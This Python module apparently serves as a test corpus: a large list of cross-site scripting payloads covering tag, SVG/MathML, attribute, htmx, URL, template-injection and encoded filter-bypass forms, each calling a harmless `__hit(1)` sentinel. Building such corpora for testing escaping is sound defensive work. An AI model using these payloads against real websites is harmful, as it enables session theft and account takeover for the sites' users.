"""Texts that run as a script where a page forgets to escape; each calls ``__hit``, by itself or when pressed."""

from __future__ import annotations

HIT = "__hit(1)"
_HANDLERS = (
    "onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onbegin", "onpageshow",
    "onpointerover", "onscroll", "onbeforetoggle", "onfocusin", "onblur", "oninput",
)  # fmt: skip
_TAGS = (
    "<script>{h}</script>", "<SCRIPT>{h}</SCRIPT>", "<scr<script>ipt>{h}</scr</script>ipt>",
    "<script >{h}</script >", "<script\n>{h}</script>", "<script/x>{h}</script>",
    "<script src=data:text/javascript,{h}></script>", "<script type=module>{h}</script>",
    "<script src='data:,{h}'>", "<svg><script>{h}</script></svg>", "<svg><script href=data:,{h} />",
    "<math><mtext><script>{h}</script></mtext></math>", "<noscript><p title='</noscript><img src=x onerror={h}>'>",
    "<title><img src=x onerror={h}></title>", "</title><script>{h}</script>", "</textarea><script>{h}</script>",
    "</script><script>{h}</script>", "</style><script>{h}</script>", "</select><script>{h}</script>",
    "--><script>{h}</script>", "--!><img src=x onerror={h}>", "]]><script>{h}</script>",
    "<!--><img src=x onerror={h}>-->", "<![CDATA[><img src=x onerror={h}>]]>", "<?xml><img src=x onerror={h}>",
    "<%<img src=x onerror={h}>%>", "<x><img src=x onerror={h}>", "<img src=x onerror={h}//",
    "<img/src=x/onerror={h}>", "<img\tsrc=x\tonerror={h}>", "<img\x0csrc=x\x0conerror={h}>",
    "<IMG SRC=x oNeRrOr={h}>", "<img src='x'onerror='{h}'>", "<img src=`x` onerror=`{h}`>",
    "<img src=x onerror=\"{h}\">", "<<img src=x onerror={h}>", "<img src=x:x onerror={h}>",
    "<image src=x onerror={h}>", "<img srcset=x onerror={h}>", "<video><source onerror={h}>",
    "<video src=x onerror={h}>", "<audio src=x onerror={h}>", "<body onload={h}>", "<body onpageshow={h}>",
    "<input autofocus onfocus={h}>", "<select autofocus onfocus={h}>", "<textarea autofocus onfocus={h}>",
    "<button autofocus onfocus={h}>x</button>", "<a autofocus href onfocus={h}>x</a>",
    "<details open ontoggle={h}>", "<iframe srcdoc='<script>parent.{h}</script>'>",
    "<iframe src=javascript:parent.{h}>", "<iframe onload={h}>", "<object data=javascript:{h}>",
    "<embed src=javascript:{h}>", "<object onerror={h} data=x>", "<link rel=stylesheet href=x onerror={h}>",
    "<style onload={h}></style>", "<style>@import 'x';</style><img src=x onerror={h}>",
    "<meta http-equiv=refresh content='0;javascript:{h}'>", "<base href=javascript:{h}//>",
    "<form action=javascript:{h}><button>x", "<button formaction=javascript:{h}>x",
    "<isindex action=javascript:{h} type=image>", "<marquee onstart={h}>x</marquee>",
    "<keygen autofocus onfocus={h}>", "<frameset onload={h}>", "<table background=javascript:{h}>",
    "<div style=animation-name:x onanimationstart={h}>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={h}>", "<portal src=javascript:{h}>",
    "<dialog open onclose={h}>x", "<input type=image src=x onerror={h}>",
    "<template><script>{h}</script></template>", "<template shadowrootmode=open><img src=x onerror={h}></template>",
    "<slot onslotchange={h}>", "<xss id=x tabindex=1 onfocus={h}>#x",
)  # fmt: skip
_SVG = (
    "<svg onload={h}>", "<svg/onload={h}>", "<svg><animate onbegin={h} attributeName=x dur=1s>",
    "<svg><set onbegin={h} attributeName=x>", "<svg><a xlink:href=javascript:{h}><text y=9>x</text></a>",
    "<svg><use href=data:image/svg+xml,<svg/onload={h}>#x>",
    "<svg><foreignObject><img src=x onerror={h}></foreignObject></svg>",
    "<svg><style><img src=x onerror={h}></style></svg>", "<svg><title><img src=x onerror={h}></title></svg>",
    "<svg><desc><img src=x onerror={h}></desc></svg>", "<svg><image href=x onerror={h}>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{h}</handler>",
    "<math href=javascript:{h}>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{h}>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={h}>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={h}>",
    "<svg></p><style><a title='</style><img src=x onerror={h}>'>",
    "<svg><p><style><!--</style><img src=x onerror={h}>-->",
)  # fmt: skip
_ATTRIBUTES = (
    "\" autofocus onfocus={h} x=\"", "' autofocus onfocus={h} x='", "\"><img src=x onerror={h}>",
    "'><img src=x onerror={h}>", "` onmouseover={h} `", "x onmouseover={h}", "\" onmouseover=\"{h}",
    "' onmouseover='{h}", "\"/onmouseover={h}/x=\"", "\" style=animation-name:x onanimationstart={h} \"",
    "\" hx-on:click=\"{h}", "\" hx-on::load=\"{h}\" \"", "\" hx-vals='js:{{x:{h}}}' \"",
    "\" hx-get=/ hx-trigger=load[{h}] \"", "\" hx-headers='js:{{x:{h}}}' \"", "<div hx-on:htmx:load={h}>x</div>",
    "<div hx-on--load={h}>x</div>", "<div data-hx-on:click={h}>x</div>",
    "<div hx-trigger='load[{h}]' hx-get=/>x</div>",
    "<div hx-vals='javascript:{{x:{h}}}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-ext=x hx-get=data:text/html,<script>{h}</script>>x</div>", "<script hx-swap-oob=true>{h}</script>",
    "<div id=assist hx-swap-oob=true><img src=x onerror={h}></div>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{h}", "JaVaScRiPt:{h}", "java\tscript:{h}", "java\nscript:{h}", "\x01javascript:{h}",
    " javascript:{h}", "javascript://%0a{h}", "javascript:/*-/*`/*\\`/*'/*\"/**/(/* */{h} )//", "vbscript:{h}",
    "data:text/html,<script>{h}</script>", "data:text/html;base64,PHNjcmlwdD5fX2hpdCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={h}>", "jar:javascript:{h}", "view-source:javascript:{h}",
    "[x](javascript:{h})", "![x](x\"onerror=\"{h})", "<javascript:{h}>", "feed:javascript:{h}",
    "<a href=javascript:{h}>x</a>", "<a href='java&#9;script:{h}'>x</a>", "<a href=&#106;avascript:{h}>x</a>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{{h}}}}}", "{{{{constructor.constructor('{h}')()}}}}", "{{%raw%}}{h}{{%endraw%}}", "${{{h}}}", "#{{{h}}}",
    "<%={h}%>", "@{{{h}}}", "[[{h}]]", "{{{{7*7}}}}{{{{''.__class__}}}}", "{{% if {h} %}}x{{% endif %}}",
    "{{{{'<img src=x onerror={h}>'|safe}}}}", "{{#x}}{h}{{/x}}", "';{h};//", "\";{h};//", "`;{h};//", "\\';{h};//",
    "\\\";{h};//", "</script>{h}<script>", "*/{h}/*", "-{h}-", "'-{h}-'", "\"-{h}-\"", "`${{{h}}}`", "\u2028{h}//",
    "\u2029{h}//", "\n{h}\n//", "});{h};({{", "]}};{h};[{{", "{{\"x\":\"</script><script>{h}</script>\"}}",
    "\\u003cscript\\u003e{h}\\u003c/script\\u003e", "\\x3cimg src=x onerror={h}\\x3e", "'+{h}+'", "eval('{h}')",
    "setTimeout('{h}')",
)  # fmt: skip
_ENCODED = (
    "&lt;script&gt;{h}&lt;/script&gt;", "&#60;img src=x onerror={h}&#62;", "&#x3c;img src=x onerror={h}&#x3e;",
    "&lt<img src=x onerror={h}>", "%3Cscript%3E{h}%3C/script%3E", "%253Cimg src=x onerror={h}%253E",
    "+ADw-script+AD4-{h}+ADw-/script+AD4-", "\uff1cscript\uff1e{h}\uff1c/script\uff1e",
    "\u02c2img src=x onerror={h}\u02c3", "\u3008script\u3009{h}", "<img src=x onerror=&#95;&#95;hit(1)>",
    "<img src=x onerror=\\u005f_hit(1)>", "<img src=x onerror=window['__hi'+'t'](1)>",
    "<img src=x onerror=self['\\x5f\\x5fhit'](1)>", "<img src=x onerror=__hit`1`>",
    "<img src=x onerror=top.__hit(1)>", "<\u0131mg src=x onerror={h}>", "<\u017fcript>{h}</\u017fcript>",
    "<img src=x on\u200berror={h}>", "\ufeff<script>{h}</script>", "<scr\u00adipt>{h}</script>",
    "<img src=x onerror=\u2028{h}>", "\u202e<script>{h}</script>", "<ｓcript>{h}</script>", "expression({h})",
    "<b style=x:expression({h})>", "<b style=background:url(javascript:{h})>",
    "<b style=-moz-binding:url(data:,{h})>", "<style>*{{background:url('javascript:{h}')}}</style>",
    "</p><p onclick={h}>", "<a\nhref\n=\njavascript:{h}>x</a>",
)  # fmt: skip
_SHAPES = (
    *_TAGS, *_SVG, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_ENCODED,
    *(f"<b tabindex=1 autofocus style=animation-name:x {handler}={{h}}>x</b>" for handler in _HANDLERS),
)  # fmt: skip
PAYLOADS = tuple(dict.fromkeys(one.replace("{h}", HIT).replace("{{", "{").replace("}}", "}") for one in _SHAPES))
